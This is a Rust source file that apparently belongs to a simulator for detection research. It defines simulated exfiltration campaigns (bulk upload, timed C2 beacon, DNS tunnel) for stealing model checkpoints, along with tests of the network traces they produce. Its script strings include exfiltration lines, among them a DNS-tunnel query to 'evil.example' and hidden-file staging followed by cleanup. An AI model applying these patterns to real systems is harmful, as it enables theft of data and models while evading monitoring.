@@ -1,0 +1,228 @@
+//! Data exfiltration: theft of "expensively trained AI models … and
+//! training data" (§I). Three variants with distinct network shapes:
+//!
+//! - **Bulk** — stage an archive, push it out in one large asymmetric
+//!   flow (loud, fast).
+//! - **Beacon** — small fixed-size chunks on a timer (C2-style, quiet).
+//! - **DNS tunnel** — many tiny packets to port 53 (evades volume rules,
+//!   lights up protocol-rarity features).
+
+use crate::campaign::{Campaign, CampaignStep};
+use crate::AttackClass;
+use ja_kernelsim::actions::{Action, CellScript};
+use ja_kernelsim::vfs::ContentKind;
+use ja_netsim::addr::{ports, HostAddr};
+use ja_netsim::time::Duration;
+
+/// Exfiltration shape.
+#[derive(Clone, Copy, Debug, PartialEq, Eq)]
+pub enum ExfilVariant {
+    /// One large staged transfer.
+    Bulk,
+    /// Periodic small chunks.
+    Beacon,
+    /// DNS-tunnel style: tiny payloads to port 53.
+    DnsTunnel,
+}
+
+/// Exfiltration parameters.
+#[derive(Clone, Debug)]
+pub struct ExfilParams {
+    /// Variant.
+    pub variant: ExfilVariant,
+    /// Total bytes to steal.
+    pub total_bytes: u64,
+    /// Beacon/tunnel interval (seconds).
+    pub interval_secs: f64,
+    /// Destination.
+    pub dst: HostAddr,
+}
+
+impl Default for ExfilParams {
+    fn default() -> Self {
+        ExfilParams {
+            variant: ExfilVariant::Bulk,
+            total_bytes: 500_000_000,
+            interval_secs: 30.0,
+            dst: HostAddr::external(21),
+        }
+    }
+}
+
+/// Build an exfiltration campaign on `server` as `user`.
+pub fn campaign(server: usize, user: &str, params: &ExfilParams) -> Campaign {
+    let mut steps = Vec::new();
+    let mut t = Duration::ZERO;
+    match params.variant {
+        ExfilVariant::Bulk => {
+            // Stage: tar the model directory (a high-entropy local write).
+            steps.push(CampaignStep::Cell {
+                server,
+                user: user.to_string(),
+                offset: t,
+                script: CellScript::new(
+                    "shutil.make_archive('/tmp/.m','gztar',f'/home/{u}/models')",
+                    vec![
+                        Action::ReadFile {
+                            path: format!("/home/{user}/models/ckpt_0.bin"),
+                        },
+                        Action::WriteFile {
+                            path: "/tmp/.m.tar.gz".into(),
+                            kind: ContentKind::Archive,
+                            size: params.total_bytes,
+                        },
+                    ],
+                ),
+            });
+            t = t + Duration::from_secs(30);
+            // Push in 8 large sends on one connection.
+            let chunk = params.total_bytes / 8;
+            let mut actions = vec![Action::Connect {
+                dst: params.dst,
+                dst_port: ports::HUB_HTTPS,
+            }];
+            for _ in 0..8 {
+                actions.push(Action::SendBytes {
+                    bytes: chunk,
+                    entropy_high: true,
+                });
+            }
+            actions.push(Action::DeleteFile {
+                path: "/tmp/.m.tar.gz".into(),
+            });
+            steps.push(CampaignStep::Cell {
+                server,
+                user: user.to_string(),
+                offset: t,
+                script: CellScript::new("requests.put(DST, data=open('/tmp/.m.tar.gz'))", actions),
+            });
+        }
+        ExfilVariant::Beacon => {
+            let chunk = 64 * 1024u64;
+            let n = (params.total_bytes / chunk).max(1);
+            steps.push(CampaignStep::Cell {
+                server,
+                user: user.to_string(),
+                offset: t,
+                script: CellScript::new(
+                    "s = socket.create_connection(C2)",
+                    vec![Action::Connect {
+                        dst: params.dst,
+                        dst_port: ports::HUB_HTTPS,
+                    }],
+                ),
+            });
+            for i in 0..n {
+                t = Duration::from_secs_f64(params.interval_secs * (i + 1) as f64);
+                steps.push(CampaignStep::Cell {
+                    server,
+                    user: user.to_string(),
+                    offset: t,
+                    script: CellScript::new(
+                        "s.send(next_chunk())",
+                        vec![Action::SendBytes {
+                            bytes: chunk,
+                            entropy_high: true,
+                        }],
+                    ),
+                });
+            }
+        }
+        ExfilVariant::DnsTunnel => {
+            let chunk = 180u64; // max bytes smuggled per query
+            let n = (params.total_bytes / chunk).clamp(1, 2000);
+            for i in 0..n {
+                t = Duration::from_secs_f64(params.interval_secs * i as f64);
+                steps.push(CampaignStep::Cell {
+                    server,
+                    user: user.to_string(),
+                    offset: t,
+                    script: CellScript::new(
+                        "resolver.query(encode(chunk)+'.t.evil.example')",
+                        vec![
+                            Action::Connect {
+                                dst: params.dst,
+                                dst_port: ports::DNS,
+                            },
+                            Action::SendBytes {
+                                bytes: chunk,
+                                entropy_high: true,
+                            },
+                        ],
+                    ),
+                });
+            }
+        }
+    }
+    Campaign {
+        class: Some(AttackClass::DataExfiltration),
+        name: format!("exfil-{:?}-{user}-s{server}", params.variant).to_lowercase(),
+        steps,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::campaign::execute;
+    use ja_kernelsim::deployment::{Deployment, DeploymentSpec};
+    use ja_netsim::time::SimTime;
+
+    fn run(variant: ExfilVariant, total: u64, interval: f64) -> crate::campaign::ScenarioOutput {
+        let mut d = Deployment::build(&DeploymentSpec::small_lab(8));
+        let user = d.owner_of(0).to_string();
+        let params = ExfilParams {
+            variant,
+            total_bytes: total,
+            interval_secs: interval,
+            ..Default::default()
+        };
+        let c = campaign(0, &user, &params);
+        execute(&mut d, &[(SimTime::ZERO, c)], 2)
+    }
+
+    #[test]
+    fn bulk_produces_one_heavily_asymmetric_flow() {
+        let out = run(ExfilVariant::Bulk, 100_000_000, 0.0);
+        let ext: Vec<_> = out
+            .trace
+            .flow_summaries()
+            .into_iter()
+            .filter(|f| f.tuple.crosses_perimeter() && f.tuple.dst_port == 443 && !f.tuple.dst.is_internal())
+            .collect();
+        assert_eq!(ext.len(), 1);
+        assert!(ext[0].asymmetry() > 0.99, "asym {}", ext[0].asymmetry());
+        assert!(ext[0].bytes_up >= 8 * 64 * 1024);
+    }
+
+    #[test]
+    fn beacon_produces_periodic_sends() {
+        let out = run(ExfilVariant::Beacon, 64 * 1024 * 10, 30.0);
+        // Audit plane: 10 NetSend events, 30 s apart.
+        let sends: Vec<_> = out
+            .sys_events
+            .iter()
+            .filter(|e| e.class() == "net_send")
+            .collect();
+        assert_eq!(sends.len(), 10);
+        let gaps: Vec<f64> = sends
+            .windows(2)
+            .map(|w| w[1].time.since(w[0].time).as_secs_f64())
+            .collect();
+        for g in &gaps {
+            assert!((g - 30.0).abs() < 1.0, "gap {g}");
+        }
+    }
+
+    #[test]
+    fn dns_tunnel_hits_port_53_many_times() {
+        let out = run(ExfilVariant::DnsTunnel, 180 * 50, 1.0);
+        let dns_flows = out
+            .trace
+            .flow_summaries()
+            .into_iter()
+            .filter(|f| f.tuple.dst_port == 53)
+            .count();
+        assert_eq!(dns_flows, 50);
+    }
+}
